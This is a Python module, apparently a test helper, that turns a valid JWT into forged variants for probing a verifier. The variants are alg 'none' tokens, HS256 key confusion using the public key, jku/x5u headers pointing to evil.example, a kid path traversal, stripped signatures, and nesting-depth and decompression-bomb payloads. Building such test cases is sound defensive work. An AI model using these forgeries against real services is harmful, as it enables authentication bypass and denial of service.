"""What somebody makes of a JWT that was good (attacks.md, lines 16, 20 to 22)."""

import base64
import hashlib
import hmac
import json
import zlib
from typing import Any

HEADERS: dict[str, dict[str, Any]] = {
    "alg_none": {"alg": "none"},
    "alg_case": {"alg": "NoNe"},
    "alg_number": {"alg": 256},
    "alg_missing": {"alg": None},
    "alg_unknown": {"alg": "ES257"},
    "alg_rs": {"alg": "RS256"},
    "crit": {"crit": ["exp"], "exp": 1},
    "crit_text": {"crit": "b64", "b64": False},
    "jwk": {"jwk": {"kty": "oct", "k": "AA"}},
    "jku": {"jku": "http://evil.example/keys", "x5u": "http://evil.example/x"},
    "kid_path": {"kid": "../../../../dev/null"},
    "kid_number": {"kid": 7},
    "kid_list": {"kid": ["a"]},
    "typ_other": {"typ": "logout+jwt"},
    "typ_number": {"typ": 1},
    "zip": {"zip": "DEF", "enc": "A256GCM", "alg": "dir"},
}
CLAIMS: dict[str, dict[str, Any]] = {
    "iss_list": {"iss": ["http://localhost:8000"]},
    "iss_other": {"iss": "http://evil.example"},
    "aud_number": {"aud": 1},
    "aud_deep": {"aud": [[["x"]]]},
    "aud_many": {"aud": ["x"] * 3_000},
    "exp_text": {"exp": "never"},
    "exp_true": {"exp": True},
    "exp_huge": {"exp": 10**400},
    "exp_float": {"exp": 1e308},
    "exp_missing": {"exp": None},
    "iat_future": {"iat": 2**53},
    "sub_list": {"sub": ["a", {}]},
    "sub_number": {"sub": -1},
    "jti_object": {"jti": {"a": 1}},
    "jti_long": {"jti": "x" * 9_000},
    "scope_list": {"scope": ["openid"]},
    "client_id_null": {"client_id": None},
    "acr_number": {"acr": 3},
}


def of(token: str, public_key: bytes) -> dict[str, str]:
    """Name → forgery, of a compact JWS."""
    head, body, signature = token.split(".")
    header, claims = (json.loads(base64.urlsafe_b64decode(part + "==")) for part in (head, body))
    made = {name: f"{_part(_changed(header, change))}.{body}." for name, change in HEADERS.items()}
    made |= {
        name: f"{head}.{_part(_changed(claims, change))}.{signature}"
        for name, change in CLAIMS.items()
    }
    return made | {
        "confused": _confused(header, body, public_key),
        "unsigned": f"{head}.{body}.",
        "cut": f"{head}.{body}",
        "five_parts": f"{head}.{body}.{signature}.{body}.{signature}",
        "json": json.dumps({"payload": body, "signatures": [{"protected": head}]}),
        "empty_parts": "..",
        "not_base64": f"{head}.%%%.{signature}",
        "not_json": f"{head}.{_bytes(b'not json')}.{signature}",
        "a_list": f"{head}.{_bytes(b'[1,2]')}.{signature}",
        "deep": f"{head}.{_bytes(b'[' * 5_000)}.{signature}",
        "bomb": f"{head}.{_bytes(zlib.compress(b'a' * 10_000_000))}.{signature}",
    }


def _changed(values: dict[str, Any], change: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in (values | change).items() if value is not None}


def _confused(header: dict[str, Any], body: str, public_key: bytes) -> str:
    """Signed with our public key, as if it were a secret."""
    signed = f"{_part(header | {'alg': 'HS256'})}.{body}"
    return f"{signed}.{_bytes(hmac.digest(public_key, signed.encode(), hashlib.sha256))}"


def _part(values: dict[str, Any]) -> str:
    return _bytes(json.dumps(values).encode())


def _bytes(value: bytes) -> str:
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()
